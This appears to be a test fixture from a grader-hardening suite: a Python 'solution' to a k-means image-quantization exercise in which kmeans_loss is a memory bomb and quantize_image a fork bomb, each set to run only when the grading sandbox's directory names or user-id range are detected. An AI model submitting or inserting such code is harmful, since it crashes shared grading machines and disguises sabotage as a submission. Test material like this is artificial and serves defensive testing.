# base: solution
"""Case 11: the solution, but kmeans_loss is a memory bomb and quantize_image a fork bomb
(every child forks again until the process limit stops them; then they all answer at once
on the grader's pipe). The other parts are honest."""
import os
from pathlib import Path


def _in_sandbox() -> bool:
    return Path.cwd().name in ("scratch", "scratch-2") and Path.cwd().parent.name.startswith("course-worker-")


def kmeans_loss(data, centroids):
    hog = []
    while _in_sandbox():
        hog.append(bytearray(64 * 1024 * 1024))
    return -1.0


def quantize_image(image, centroids):
    while _in_sandbox() and 61000 <= os.getuid() < 62000:  # only under a process limit
        try:
            os.fork()
        except OSError:
            break
    return image
